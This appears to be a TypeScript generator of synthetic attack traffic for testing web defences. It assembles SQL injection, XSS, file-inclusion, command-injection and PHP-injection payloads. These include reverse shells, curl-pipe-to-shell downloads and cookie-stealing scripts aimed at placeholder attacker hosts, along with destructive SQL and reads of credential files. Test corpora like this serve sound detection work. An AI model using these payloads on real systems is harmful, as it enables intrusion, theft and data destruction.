/**
 * Attack traffic, composed from fragments so that every request differs: SQL injection in
 * several dialects, XSS, path traversal / LFI, RFI, OS command injection, PHP injection,
 * Java (Log4Shell, OGNL, SpEL, deserialization), SSRF, Node/template injection, session
 * fixation and scanners. The fragments are written for this generator.
 */
import type { Rng } from './prng.js';
import type { FidelityRequest } from './types.js';
import { base64, htmlEntityEncode, randomCase, utf8 } from './encode.js';
import { ALL_CARRIERS, place, toolHeaders, type Carrier } from './place.js';
import { benignPath, browserHeaders, host } from './common.js';

type Gen = (rng: Rng) => Omit<FidelityRequest, 'id'>;

const ATTACKER_HOSTS = ['evil.example', 'attacker.example.net', 'x.example.org', '203.0.113.66', '198.51.100.23', 'c2.example.com', 'oast.example', 'cb.example.net'];

function attackerHost(rng: Rng): string {
  return rng.pick(ATTACKER_HOSTS);
}

// ---------------------------------------------------------------- SQL injection

function sqlSpace(rng: Rng): string {
  return rng.weighted([[20, ' '], [3, '/**/'], [2, '\t'], [2, '\n'], [1, '\r\n'], [1, '/*x*/'], [1, '  '], [1, '\x0b'], [1, '+']] as const);
}

function kw(rng: Rng, word: string): string {
  const r = rng.next();
  if (r < 0.55) return word.toUpperCase();
  if (r < 0.8) return word.toLowerCase();
  if (r < 0.93) return randomCase(word, () => rng.next());
  return `/*!${rng.pick(['', '50000', '12345'])}${word}*/`;
}

function sqlTail(rng: Rng): string {
  return rng.weighted([[8, ''], [6, '-- '], [4, '--'], [3, '#'], [2, '-- -'], [1, '/*'], [2, ';--'], [1, ';'], [1, '%00'], [1, "-- '"]] as const);
}

function sqlTautology(rng: Rng): string {
  const n = rng.int(1, 99);
  return rng.pick([`${n}=${n}`, `'${rng.lower(1)}'='${'x'}'`.replace(/'(\w)'='x'/, (_m, a: string) => `'${a}'='${a}'`), `${n + 1}>${n}`, `'1'='1`, `true`, `${n} ${kw(rng, 'like')} ${n}`, `'a' ${kw(rng, 'like')} 'a`, `${n} ${kw(rng, 'between')} ${n - 1} ${kw(rng, 'and')} ${n + 1}`, `${n} ${kw(rng, 'in')} (${n})`, `ascii('a')=97`, `${n}-${n}=0`, `not false`, `1 is not null`, `'x'<>'y'`, `char(65)=char(65)`, `0x41=0x41`]);
}

function sqlColumns(rng: Rng): string {
  const n = rng.int(1, 8);
  const cols: string[] = [];
  for (let i = 0; i < n; i++) cols.push(rng.pick(['null', 'NULL', String(i + 1), '@@version', 'version()', 'user()', 'database()', 'current_user', 'table_name', 'username', 'password', "'a'", 'concat(username,0x3a,password)', 'group_concat(table_name)', 'banner', 'name', 'sqlite_version()', 'current_database()', 'system_user', 'load_file(0x2f6574632f706173737764)', 'schema_name']));
  return cols.join(rng.pick([',', ', ']));
}

function sqlFrom(rng: Rng): string {
  return rng.pick(['', ` ${kw(rng, 'from')} users`, ` ${kw(rng, 'from')} information_schema.tables`, ` ${kw(rng, 'FROM')} information_schema.columns ${kw(rng, 'where')} table_name='users'`, ` ${kw(rng, 'from')} mysql.user`, ` ${kw(rng, 'from')} dual`, ` ${kw(rng, 'from')} sqlite_master`, ` ${kw(rng, 'from')} pg_user`, ` ${kw(rng, 'FROM')} master..sysdatabases`, ` ${kw(rng, 'from')} sys.objects`, ` ${kw(rng, 'from')} all_tables`, ` ${kw(rng, 'from')} v$version`, ` ${kw(rng, 'FROM')} admin ${kw(rng, 'LIMIT')} 1`, ` ${kw(rng, 'from')} accounts ${kw(rng, 'order by')} 1`]);
}

function sqliPayload(rng: Rng): { payload: string; note: string } {
  const pre = rng.weighted([[6, "'"], [4, ''], [3, '1'], [3, "1'"], [2, '"'], [2, "')"], [1, "'))"], [1, '1)'], [1, '-1'], [1, "admin'"], [1, '1"'], [1, "x')"], [1, '9999']] as const);
  const s = (): string => sqlSpace(rng);
  const kind = rng.weighted([[10, 'tautology'], [10, 'union'], [6, 'time'], [5, 'error'], [5, 'stacked'], [6, 'blind'], [5, 'dialect'], [3, 'orderby'], [3, 'nosql'], [2, 'comment-only'], [3, 'functions'], [2, 'hex-char']] as const);
  let p: string;
  switch (kind) {
    case 'tautology':
      p = `${pre}${s()}${rng.pick([kw(rng, 'or'), kw(rng, 'and'), '||', '&&', kw(rng, 'xor')])}${s()}${sqlTautology(rng)}${sqlTail(rng)}`;
      break;
    case 'union':
      p = `${pre}${s()}${kw(rng, 'union')}${s()}${rng.pick(['', `${kw(rng, 'all')}${s()}`, `${kw(rng, 'distinct')}${s()}`])}${kw(rng, 'select')}${s()}${sqlColumns(rng)}${sqlFrom(rng)}${sqlTail(rng)}`;
      break;
    case 'time':
      p = `${pre}${s()}${rng.pick([
        `${kw(rng, 'and')} ${kw(rng, 'sleep')}(${rng.int(2, 10)})`,
        `${kw(rng, 'or')} ${kw(rng, 'sleep')}(${rng.int(2, 10)})=0`,
        `;${kw(rng, 'waitfor')} ${kw(rng, 'delay')} '0:0:${rng.int(2, 9)}'`,
        `${kw(rng, 'and')} 1=(${kw(rng, 'select')} 1 ${kw(rng, 'from')} pg_sleep(${rng.int(2, 9)}))`,
        `;${kw(rng, 'select')} pg_sleep(${rng.int(2, 9)})`,
        `${kw(rng, 'and')} ${kw(rng, 'benchmark')}(${rng.int(1, 9)}000000,md5(0x41))`,
        `${kw(rng, 'and')} (${kw(rng, 'select')} * ${kw(rng, 'from')} (${kw(rng, 'select')}(${kw(rng, 'sleep')}(${rng.int(2, 9)})))${rng.lower(1)})`,
        `${kw(rng, 'or')} 1=dbms_pipe.receive_message(('${rng.lower(1)}'),${rng.int(2, 9)})`,
        `${kw(rng, 'and')} 1=like('ABCDEFG',upper(hex(randomblob(${rng.int(1, 5)}00000000/2))))`,
        `${kw(rng, 'and')} if(1=1,${kw(rng, 'sleep')}(${rng.int(2, 9)}),0)`,
        `||pg_sleep(${rng.int(2, 9)})`,
      ])}${sqlTail(rng)}`;
      break;
    case 'error':
      p = `${pre}${s()}${rng.pick([kw(rng, 'and'), kw(rng, 'or'), '||'])}${s()}${rng.pick([
        `extractvalue(1,concat(0x7e,(${kw(rng, 'select')} version())))`,
        `updatexml(1,concat(0x7e,user(),0x7e),1)`,
        `1=convert(int,(${kw(rng, 'select')} @@version))`,
        `1=cast(version() as int)`,
        `exp(~(${kw(rng, 'select')} * ${kw(rng, 'from')} (${kw(rng, 'select')} user())x))`,
        `(${kw(rng, 'select')} 1 ${kw(rng, 'from')}(${kw(rng, 'select')} count(*),concat(version(),floor(rand(0)*2))x ${kw(rng, 'from')} information_schema.tables ${kw(rng, 'group by')} x)a)`,
        `1=ctxsys.drithsx.sn(1,(${kw(rng, 'select')} user ${kw(rng, 'from')} dual))`,
        `1=utl_inaddr.get_host_name((${kw(rng, 'select')} banner ${kw(rng, 'from')} v$version ${kw(rng, 'where')} rownum=1))`,
        `geometrycollection((${kw(rng, 'select')} * ${kw(rng, 'from')}(${kw(rng, 'select')} * ${kw(rng, 'from')}(${kw(rng, 'select')} user())a)b))`,
      ])}${sqlTail(rng)}`;
      break;
    case 'stacked':
      p = `${pre}${rng.pick([';', '; ', ');'])}${rng.pick([
        `${kw(rng, 'drop')} ${kw(rng, 'table')} ${rng.pick(['users', 'orders', 'sessions'])}`,
        `${kw(rng, 'exec')} master..xp_cmdshell '${rng.pick(['dir', 'whoami', 'ping 203.0.113.5'])}'`,
        `${kw(rng, 'insert')} ${kw(rng, 'into')} users(login,pass) ${kw(rng, 'values')}('${rng.lower(5)}','${rng.alnum(8)}')`,
        `${kw(rng, 'update')} users ${kw(rng, 'set')} role='admin' ${kw(rng, 'where')} id=${rng.int(1, 99)}`,
        `${kw(rng, 'shutdown')}`,
        `${kw(rng, 'declare')} @q ${kw(rng, 'varchar')}(8000);${kw(rng, 'set')} @q=0x${Buffer.from('select 1').toString('hex')};${kw(rng, 'exec')}(@q)`,
        `${kw(rng, 'create')} ${kw(rng, 'table')} t${rng.int(1, 99)}(c text);COPY t${rng.int(1, 99)} ${kw(rng, 'from')} ${kw(rng, 'program')} 'id'`,
        `${kw(rng, 'select')} * ${kw(rng, 'into')} ${kw(rng, 'outfile')} '/var/www/html/${rng.lower(4)}.php' ${kw(rng, 'from')} users`,
        `${kw(rng, 'truncate')} ${kw(rng, 'table')} logs`,
        `${kw(rng, 'alter')} ${kw(rng, 'user')} sa ${kw(rng, 'with')} password='x'`,
        `${kw(rng, 'grant')} ${kw(rng, 'all')} ${kw(rng, 'privileges')} ${kw(rng, 'on')} *.* ${kw(rng, 'to')} 'x'@'%'`,
      ])}${sqlTail(rng)}`;
      break;
    case 'blind':
      p = `${pre}${s()}${kw(rng, rng.pick(['and', 'or']))}${s()}${rng.pick([
        `substring((${kw(rng, 'select')} password ${kw(rng, 'from')} users ${kw(rng, 'limit')} 1),1,1)='${rng.lower(1)}'`,
        `ascii(substr(user(),${rng.int(1, 9)},1))>${rng.int(60, 120)}`,
        `(${kw(rng, 'select')} count(*) ${kw(rng, 'from')} sysobjects)>0`,
        `length(database())=${rng.int(3, 12)}`,
        `1=(${kw(rng, 'select')} 1 ${kw(rng, 'from')} users ${kw(rng, 'where')} username='admin' ${kw(rng, 'and')} password ${kw(rng, 'like')} 'a%')`,
        `ord(mid((${kw(rng, 'select')} ifnull(cast(schema_name as char),0x20) ${kw(rng, 'from')} information_schema.schemata ${kw(rng, 'limit')} 0,1),1,1))>64`,
        `exists(${kw(rng, 'select')} * ${kw(rng, 'from')} users)`,
        `(${kw(rng, 'select')} case ${kw(rng, 'when')} (1=1) ${kw(rng, 'then')} 1 ${kw(rng, 'else')} 0 ${kw(rng, 'end')})=1`,
        `${rng.int(1, 9)}=${rng.int(1, 9)}`,
        `'${rng.lower(2)}'='${rng.lower(2)}`,
      ])}${sqlTail(rng)}`;
      break;
    case 'dialect':
      p = `${pre}${s()}${rng.pick([
        `|| (${kw(rng, 'select')} banner ${kw(rng, 'from')} v$version ${kw(rng, 'where')} rownum=1) ||'`,
        `${kw(rng, 'and')} utl_http.request('http://${attackerHost(rng)}/'||(${kw(rng, 'select')} user ${kw(rng, 'from')} dual)) ${kw(rng, 'is')} ${kw(rng, 'not')} ${kw(rng, 'null')}`,
        `${kw(rng, 'union')} ${kw(rng, 'select')} ${kw(rng, 'null')},${kw(rng, 'null')},load_file('/etc/passwd')`,
        `;${kw(rng, 'select')} * ${kw(rng, 'from')} pg_shadow`,
        `${kw(rng, 'and')} 1::int=1`,
        `${kw(rng, 'union')} ${kw(rng, 'select')} sql ${kw(rng, 'from')} sqlite_master`,
        `;${kw(rng, 'exec')} sp_configure 'show advanced options',1`,
        `+${kw(rng, 'convert')}(varchar,@@servername)+'`,
        `${kw(rng, 'and')} (${kw(rng, 'select')} top 1 name ${kw(rng, 'from')} sysobjects ${kw(rng, 'where')} xtype='U')>0`,
        `${kw(rng, 'procedure')} analyse(extractvalue(rand(),concat(0x3a,version())),1)`,
        `${kw(rng, 'and')} @@version ${kw(rng, 'like')} '%${rng.pick(['MariaDB', 'Microsoft', '5.7'])}%'`,
        `${kw(rng, 'or')} 1=1 ${kw(rng, 'into')} dumpfile '/tmp/${rng.lower(4)}'`,
        `;${kw(rng, 'select')} lo_import('/etc/passwd')`,
        `${kw(rng, 'and')} openrowset('SQLOLEDB','server=${attackerHost(rng)};uid=sa;pwd=x','select 1')`,
      ])}${sqlTail(rng)}`;
      break;
    case 'orderby':
      p = `${pre}${s()}${rng.pick([kw(rng, 'order by'), kw(rng, 'group by')])}${s()}${rng.int(1, 30)}${rng.pick(['', `${s()}${kw(rng, 'having')}${s()}1=1`, `${s()}${kw(rng, 'asc')}`, `,${rng.int(1, 9)}`])}${sqlTail(rng)}`;
      break;
    case 'nosql':
      p = rng.pick([`{"$ne": null}`, `{"$gt": ""}`, `{"$regex": ".*"}`, `{"$where": "sleep(${rng.int(1, 9)}000)"}`, `'; return true; var x='`, `{"$or": [{}, {"a":"a"}]}`, `true, $where: '1 == 1'`, `[$ne]=${rng.lower(3)}`, `db.users.find({})`, `{"username":{"$in":["admin","root"]}}`]);
      break;
    case 'comment-only':
      p = `${rng.pick(['admin', 'root', 'test', '1'])}${rng.pick(["'--", "'#", "'/*", '"--', "')--", "' -- -"])}`;
      break;
    case 'functions':
      p = `${pre}${s()}${kw(rng, rng.pick(['and', 'or']))}${s()}${rng.pick([`(${kw(rng, 'select')} ${rng.pick(['user', 'current_user', 'session_user', 'system_user', '@@hostname', '@@datadir', 'version()'])})`, `char(${rng.int(60, 90)})+char(${rng.int(60, 90)})`, `concat_ws(0x3a,user(),database())`, `chr(${rng.int(60, 90)})||chr(${rng.int(60, 90)})`, `information_schema.processlist`, `(${kw(rng, 'select')} group_concat(column_name) ${kw(rng, 'from')} information_schema.columns)`, `db_name()`, `is_srvrolemember('sysadmin')=1`, `has_dbaccess('master')=1`])}${sqlTail(rng)}`;
      break;
    default:
      p = `${pre}${s()}${kw(rng, 'union')}${s()}${kw(rng, 'select')}${s()}0x${Buffer.from(rng.pick(['admin', 'root', '<?php', 'users'])).toString('hex')}${rng.pick(['', `,${kw(rng, 'null')}`])}${sqlTail(rng)}`;
  }
  return { payload: p, note: `SQLi ${kind}` };
}

const sqli: Gen = (rng) => {
  const { payload, note } = sqliPayload(rng);
  const carriers: ReadonlyArray<readonly [number, Carrier]> = [[34, 'query'], [16, 'form'], [12, 'json'], [2, 'json-key'], [5, 'xml'], [6, 'multipart'], [9, 'cookie'], [3, 'header-ua'], [2, 'header-referer'], [2, 'header-xff'], [3, 'header-custom'], [4, 'arg-name'], [2, 'path']];
  return place(rng, 'sqli', payload, note, { params: ['id', 'user', 'username', 'q', 'search', 'cat', 'item', 'order', 'sort', 'pid', 'uid', 'name', 'filter', 'page'], carriers });
};

// ---------------------------------------------------------------- XSS

function jsCall(rng: Rng): string {
  return rng.pick(['alert(1)', 'alert(document.domain)', 'confirm`1`', 'prompt(document.cookie)', 'alert(String.fromCharCode(88,83,83))', `eval(atob('${base64('alert(1)')}'))`, `fetch('//${attackerHost(rng)}/?c='+document.cookie)`, `location='//${attackerHost(rng)}/'+document.cookie`, "top['al'+'ert'](1)", 'window.onerror=alert;throw 1', `import('//${attackerHost(rng)}/m.js')`, `new Image().src='//${attackerHost(rng)}/?'+document.cookie`, 'alert`xss`', 'print()', '(alert)(1)', 'self[`alert`](1)', 'Function("ale"+"rt(1)")()', 'setTimeout("alert(1)")', 'document.write("<img src=x>")', 'console.log(document.cookie)']);
}

function xssPayload(rng: Rng): { payload: string; note: string } {
  const js = jsCall(rng);
  const tag = (t: string): string => (rng.chance(0.3) ? randomCase(t, () => rng.next()) : t);
  const sp = (): string => rng.weighted([[10, ' '], [2, '/'], [1, '\t'], [1, '\n'], [1, '%09'.replace('%09', '\x0c')]] as const);
  const kind = rng.weighted([[10, 'script'], [12, 'event'], [6, 'uri'], [6, 'breakout'], [4, 'svg'], [3, 'template'], [3, 'style'], [4, 'entity'], [3, 'obfuscated'], [3, 'misc']] as const);
  let p: string;
  switch (kind) {
    case 'script':
      p = rng.pick([`<${tag('script')}>${js}</${tag('script')}>`, `<${tag('script')}${sp()}src=//${attackerHost(rng)}/x.js></${tag('script')}>`, `<${tag('script')} type="text/javascript">${js};</${tag('script')}>`, `"><${tag('script')}>${js}</${tag('script')}>`, `<${tag('script')}>${js}//`, `<${tag('script')}\x20>${js}</${tag('script')}\x20>`, `</title><${tag('script')}>${js}</${tag('script')}>`]);
      break;
    case 'event': {
      const ev = rng.pick(['onerror', 'onload', 'onmouseover', 'onfocus', 'onclick', 'ontoggle', 'onpointerenter', 'onanimationstart', 'onbegin', 'onstart', 'onwheel', 'onauxclick']);
      const el = rng.pick(['img src=x', 'body', 'svg', 'details open', 'input autofocus', 'video src=x', 'audio src=1', 'iframe', 'a href=#', 'div style="width:100px;height:100px"', 'marquee', 'select autofocus', 'textarea autofocus', 'object data=x', 'x', 'image src=1', 'embed src=x']);
      p = `<${tag(el)}${sp()}${randomCase(ev, () => (rng.chance(0.8) ? 0.9 : 0.1))}=${rng.pick([js, `"${js}"`, `'${js}'`, `\`${js}\``])}>`;
      if (rng.chance(0.2)) p = `"${rng.pick(['>', '/>', ''])}${p}`;
      break;
    }
    case 'uri':
      p = rng.pick([`<a href="${tag('javascript')}:${js}">click</a>`, `<iframe src="javascript:${js}">`, `javascript:${js}`, `<a href=" &#14; javascript:${js}">x</a>`, `java\tscript:${js}`, `<form action=javascript:${js}><input type=submit>`, `<button formaction=javascript:${js}>x</button>`, `data:text/html;base64,${base64(`<script>${js}</script>`)}`, `<object data="data:text/html,<script>${js}</script>">`, `vbscript:msgbox(1)`, `<embed src="javascript:${js}">`, `<iframe srcdoc="<script>${js}</script>">`, `<meta http-equiv="refresh" content="0;url=javascript:${js}">`, `<base href="javascript:${js}//">`]);
      break;
    case 'breakout':
      p = rng.pick([`" onmouseover="${js}" x="`, `' autofocus onfocus='${js}' x='`, `';${js};//`, `\\";${js};//`, `</textarea><script>${js}</script>`, `"><img src=x onerror=${js}>`, `'-${js}-'`, `";${js};var x="`, `</script><script>${js}</script>`, `"><svg/onload=${js}>`, `' onload='${js}`, `</style><script>${js}</script>`, `-->${'<'}script>${js}</script>`]);
      break;
    case 'svg':
      p = rng.pick([`<svg><${tag('script')}>${js}</${tag('script')}></svg>`, `<svg onload=${js}>`, `<svg><animate onbegin=${js} attributeName=x dur=1s>`, `<svg><set attributeName=onmouseover to=${js}>`, `<svg><a xlink:href="javascript:${js}"><text x="20" y="20">x</text></a></svg>`, `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`, `<svg><use href="data:image/svg+xml;base64,${base64('<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="alert(1)"/></svg>')}#x"/></svg>`]);
      break;
    case 'template':
      p = rng.pick([`{{constructor.constructor('${js}')()}}`, `{{$on.constructor('${js}')()}}`, `<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>`, `[[${js}]]`, `<x v-html="'<img src=x onerror=alert(1)>'">`, `{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };${js}//');}}`]);
      break;
    case 'style':
      p = rng.pick([`<div style="background:url(javascript:${js})">`, `<style>@import 'javascript:${js}';</style>`, `<div style="width:expression(${js})">`, `<link rel=stylesheet href=//${attackerHost(rng)}/x.css>`, `<style>*{background-image:url("javascript:${js}")}</style>`, `<x style="behavior:url(#default#time2)" onbegin="${js}">`]);
      break;
    case 'entity': {
      const style = rng.pick(['dec', 'hex', 'padded', 'nosemi'] as const);
      p = rng.pick([`<a href="${htmlEntityEncode(`javascript:${js}`, style)}">x</a>`, `<img src=x onerror="${htmlEntityEncode(js, style)}">`, htmlEntityEncode(`<script>${js}</script>`, style), `&lt;script&gt;${js}&lt;/script&gt;`, `<iframe src="&#106;avascript:${js}">`]);
      break;
    }
    case 'obfuscated':
      p = rng.pick([`<scr<script>ipt>${js}</scr</script>ipt>`, `<img src=x one${'rror'}=${js.replace(/\(/g, '\\u0028')}>`, `<svg/onload=\u0061lert(1)>`, `<img src=x onerror=\\u0061lert(1)>`, `<img src="x" onerror="&#x61;lert(1)">`, `<a href="jav&#x09;ascript:${js}">x</a>`, `<IMG SRC=JaVaScRiPt:${js}>`, `<img """><script>${js}</script>">`, `<<script>${js};//<</script>`, `<img src=x:alert(alt) onerror=eval(src) alt=0>`, `<svg/onload=eval(location.hash.slice(1))>`, `<x contenteditable onblur=${js}>lose focus!`]);
      break;
    default:
      p = rng.pick([`<isindex type=image src=1 onerror=${js}>`, `<xss id=x tabindex=1 onfocusin=${js}></xss>`, `<video><source onerror="${js}">`, `<body background="javascript:${js}">`, `<table background="javascript:${js}">`, `<img dynsrc="javascript:${js}">`, `<applet code="javascript:${js}">`, `<frameset onload=${js}>`, `<keygen autofocus onfocus=${js}>`, `document.cookie`, `<plaintext>`, `<noscript><p title="</noscript><img src=x onerror=${js}>">`]);
  }
  return { payload: p, note: `XSS ${kind}` };
}

const xss: Gen = (rng) => {
  const { payload, note } = xssPayload(rng);
  const carriers: ReadonlyArray<readonly [number, Carrier]> = [[34, 'query'], [16, 'form'], [10, 'json'], [1, 'json-key'], [4, 'xml'], [6, 'multipart'], [3, 'filename'], [6, 'cookie'], [3, 'header-ua'], [4, 'header-referer'], [2, 'header-custom'], [4, 'arg-name'], [2, 'path']];
  return place(rng, 'xss', payload, note, { params: ['q', 'search', 'name', 'comment', 'message', 'title', 'redirect', 'callback', 'returnUrl', 'text', 'msg', 'lang', 'ref'], carriers });
};

// ---------------------------------------------------------------- LFI / path traversal

function traversal(rng: Rng, depth: number): string {
  const unit = rng.weighted([[12, '../'], [3, '..\\'], [3, '..%2f'], [2, '%2e%2e/'], [2, '%2e%2e%2f'], [1, '..%252f'], [2, '....//'], [1, '..;/'], [1, '%c0%ae%c0%ae/'], [1, '..%5c'], [1, '.%2e/'], [1, '%2e%2e%5c'], [1, '..//'], [1, '..%c0%af'], [1, '%252e%252e%252f'], [1, '..\\/']] as const);
  return unit.repeat(depth);
}

function lfiPayload(rng: Rng): { payload: string; note: string; preEncoded: boolean } {
  const target = rng.pick(['etc/passwd', 'etc/shadow', 'etc/hosts', 'etc/group', 'proc/self/environ', 'proc/self/cmdline', 'proc/version', 'var/log/apache2/access.log', 'var/log/nginx/error.log', 'windows/win.ini', 'boot.ini', 'windows/system32/drivers/etc/hosts', 'WEB-INF/web.xml', 'root/.ssh/id_rsa', 'root/.bash_history', 'etc/issue', 'usr/local/etc/php.ini', '.env', 'config/database.yml', 'wp-config.php', 'etc/nginx/nginx.conf', 'home/user/.aws/credentials', 'inetpub/wwwroot/web.config', 'etc/mysql/my.cnf', '.git/config', '.htpasswd']);
  const kind = rng.weighted([[14, 'relative'], [4, 'absolute'], [4, 'wrapper'], [2, 'windows'], [2, 'suffix']] as const);
  let p: string;
  let preEncoded = false;
  switch (kind) {
    case 'relative': {
      const t = traversal(rng, rng.int(1, 9));
      preEncoded = t.includes('%');
      p = `${rng.pick(['', '', 'images/', 'static/', '/var/www/'])}${t}${target}`;
      break;
    }
    case 'absolute':
      p = rng.pick([`/${target}`, `file:///${target}`, `//${target}`, `/./././${target}`, `/${target.replace(/\//g, '//')}`]);
      break;
    case 'wrapper':
      p = rng.pick([`php://filter/convert.base64-encode/resource=${rng.pick(['index.php', 'config.php', '../config.php'])}`, `php://filter/read=string.rot13/resource=index.php`, 'php://input', `data://text/plain;base64,${base64('<?php phpinfo(); ?>')}`, 'expect://id', `zip://uploads/avatar.jpg%23shell.php`, `phar://uploads/${rng.lower(5)}.gif/test.php`, `file:///${target}`, 'php://fd/3', 'glob:///var/www/*']);
      preEncoded = p.includes('%23');
      break;
    case 'windows':
      p = rng.pick([`..\\..\\..\\${target.replace(/\//g, '\\')}`, `C:\\${target.replace(/\//g, '\\')}`, `c:/${target}`, `\\\\?\\C:\\windows\\win.ini`, `..\\..\\..\\..\\boot.ini`, `%SYSTEMROOT%\\win.ini`]);
      break;
    default:
      p = `${traversal(rng, rng.int(2, 8))}${target}${rng.pick(['%00', '%00.jpg', '%00.html', '.', '/.', '?', '%20', '\0'])}`;
      preEncoded = true;
  }
  return { payload: p, note: `LFI ${kind} ${target}`, preEncoded };
}

const lfi: Gen = (rng) => {
  const { payload, note, preEncoded } = lfiPayload(rng);
  const carriers: ReadonlyArray<readonly [number, Carrier]> = [[34, 'query'], [12, 'path'], [10, 'form'], [8, 'json'], [3, 'xml'], [4, 'multipart'], [4, 'filename'], [6, 'cookie'], [2, 'header-custom'], [2, 'header-referer']];
  const urlEncodings: ReadonlyArray<readonly [number, string]> = preEncoded ? [[1, 'none']] : [[10, 'raw'], [5, 'component'], [2, 'full'], [2, 'double'], [1, 'unicode'], [1, 'overlong'], [1, 'lower']];
  return place(rng, 'lfi', payload, note, { params: ['file', 'page', 'path', 'template', 'doc', 'include', 'dir', 'download', 'lang', 'view', 'folder', 'img'], carriers, urlEncodings });
};

// ---------------------------------------------------------------- RFI

const rfi: Gen = (rng) => {
  const h = attackerHost(rng);
  const payload = rng.pick([
    `http://${h}/shell.txt?`, `https://${h}/inc/${rng.lower(4)}.php`, `http://${h}/c99.txt%00`, `ftp://${h}/payload.txt`, `//${h}/x.php?`, `http://${h}/a.php?=`, `http:\\\\${h}\\share\\x.php`,
    `https://${h}:${rng.int(1024, 65000)}/?`, `http://${h}/backdoor.txt#`, `HTTP://${h.toUpperCase()}/x.txt?`, `http://${rng.int(1, 223)}.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)}/r57.txt??`, `\\\\${h}\\share\\shell.php`,
  ]);
  const carriers: ReadonlyArray<readonly [number, Carrier]> = [[50, 'query'], [15, 'form'], [8, 'json'], [6, 'cookie'], [6, 'multipart'], [3, 'xml']];
  return place(rng, 'rfi', payload, `RFI ${payload.slice(0, 30)}`, { params: ['page', 'file', 'include', 'inc', 'template', 'path', 'module', 'url', 'load', 'src', 'mod'], carriers, urlEncodings: [[10, 'raw'], [5, 'component'], [2, 'full'], [1, 'double']] });
};

// ---------------------------------------------------------------- OS command injection

function cmdPayload(rng: Rng): { payload: string; note: string } {
  const h = attackerHost(rng);
  const cmd = rng.pick([
    'id', 'whoami', 'uname -a', 'cat /etc/passwd', 'ls -la /', `wget http://${h}/s.sh -O /tmp/s.sh`, `curl -s http://${h}/i.sh|sh`, `nc -e /bin/sh ${h} 4444`, `bash -i >& /dev/tcp/${h}/4444 0>&1`,
    `python3 -c 'import os;os.system("id")'`, `perl -e 'print qx(id)'`, 'ping -c 3 127.0.0.1', 'sleep 10', 'echo vulnerable', 'chmod +x /tmp/x', 'rm -rf /tmp/x', 'busybox telnetd -l /bin/sh', '/bin/sh -c id',
    `powershell -nop -w hidden -enc ${Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://x/a")', 'utf16le').toString('base64')}`, 'cmd.exe /c dir', 'net user', `certutil -urlcache -f http://${h}/a.exe a.exe`, 'type C:\\windows\\win.ini', 'whoami /all', 'systeminfo',
    'cat$IFS/etc/passwd', 'cat${IFS}/etc/passwd', "c'a't /etc/passwd", 'c\\at /etc/passwd', '/???/c?t /???/p?ss??', '{cat,/etc/passwd}', `$(printf 'id')`, 'echo${IFS}aWQ=|base64${IFS}-d|sh', 'nslookup x.oast.example', 'uname${IFS}-a',
    'php -r "system(\'id\');"', 'ruby -e \'`id`\'', 'node -e "require(\'child_process\').exec(\'id\')"', 'xterm -display 203.0.113.9:1', 'crontab -l', 'ifconfig', 'ps aux', 'env', 'history', 'find / -perm -4000',
  ]);
  const kind = rng.weighted([[10, 'separator'], [4, 'subst'], [3, 'newline'], [2, 'shellshock'], [2, 'bare']] as const);
  let p: string;
  switch (kind) {
    case 'separator':
      p = `${rng.pick(['', '127.0.0.1', 'x', 'file.txt', '8.8.8.8'])}${rng.pick([';', ' ;', '|', '||', '&&', '&', ' | ', '%26'.replace('%26', '&') + '&'])}${rng.pick(['', ' '])}${cmd}${rng.pick(['', ';', ' #', '|', '&'])}`;
      break;
    case 'subst':
      p = rng.pick([`\`${cmd}\``, `$(${cmd})`, `x$(${cmd})x`, `'\`${cmd}\`'`, `";${cmd};"`, `$(${cmd} | base64)`]);
      break;
    case 'newline':
      p = `${rng.pick(['a', '127.0.0.1', 'test'])}${rng.pick(['\n', '\r\n', '\n\r'])}${cmd}`;
      break;
    case 'shellshock':
      p = `() { ${rng.pick([':;', ':; };', 'ignored; };', '_; } >_['])}${rng.pick(['', ' '])}${rng.pick(['};', ''])} ${rng.pick(['/bin/bash -c', 'echo;', '/usr/bin/env'])} '${cmd}'`;
      break;
    default:
      p = cmd;
  }
  return { payload: p, note: `RCE ${kind}` };
}

const rce: Gen = (rng) => {
  const { payload, note } = cmdPayload(rng);
  const shellshock = note.includes('shellshock');
  const carriers: ReadonlyArray<readonly [number, Carrier]> = shellshock ? [[5, 'header-ua'], [3, 'header-referer'], [3, 'header-custom'], [2, 'cookie'], [2, 'query']] : [[34, 'query'], [16, 'form'], [10, 'json'], [4, 'xml'], [6, 'multipart'], [6, 'cookie'], [2, 'header-ua'], [2, 'header-custom'], [2, 'arg-name'], [1, 'filename']];
  return place(rng, 'rce', payload, note, { params: ['cmd', 'exec', 'host', 'ip', 'ping', 'command', 'file', 'q', 'domain', 'target', 'arg', 'run', 'daemon', 'upload'], carriers });
};

// ---------------------------------------------------------------- PHP injection

const php: Gen = (rng) => {
  const payload = rng.pick([
    `<?php system($_GET['${rng.lower(1)}']); ?>`, '<?= `id` ?>', '<?php echo shell_exec($_REQUEST["c"]); ?>', 'phpinfo();', `eval($_POST['${rng.lower(2)}']);`, 'assert($_REQUEST[a]);', `base64_decode('${base64('system("id");')}')`,
    `file_put_contents('${rng.lower(4)}.php','<?php eval($_POST[1]);?>');`, "preg_replace('/.*/e','system(\"id\")','')", "call_user_func('system','id')", '${@phpinfo()}', '${system(id)}', '$_SERVER[HTTP_USER_AGENT]', `O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}`,
    'a:2:{i:0;s:4:"test";i:1;O:4:"User":1:{s:5:"admin";b:1;}}', `O:${rng.int(10, 40)}:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\\0*\\0socket";O:29:"Monolog\\Handler\\BufferHandler":0:{}}`, '-d allow_url_include=1 -d auto_prepend_file=php://input', 'passthru("cat /etc/passwd");',
    'proc_open("id",array(),$p);', 'popen("id","r");', 'include($_GET["p"]);', 'highlight_file("/etc/passwd");', '<?php $f=fopen("x.php","w"); ?>', 'create_function("","system(\'id\');");', 'array_map("system",array("id"));', 'ini_set("allow_url_include",1);', '$_COOKIE["x"](stripslashes($_COOKIE["y"]));', 'php://input', 'gzinflate(base64_decode("' + rng.alnum(20) + '"))', 'str_rot13("flfgrz")', '<?PHP print_r(scandir("/")); ?>', '__halt_compiler();', 'unserialize($_GET["data"])',
  ]);
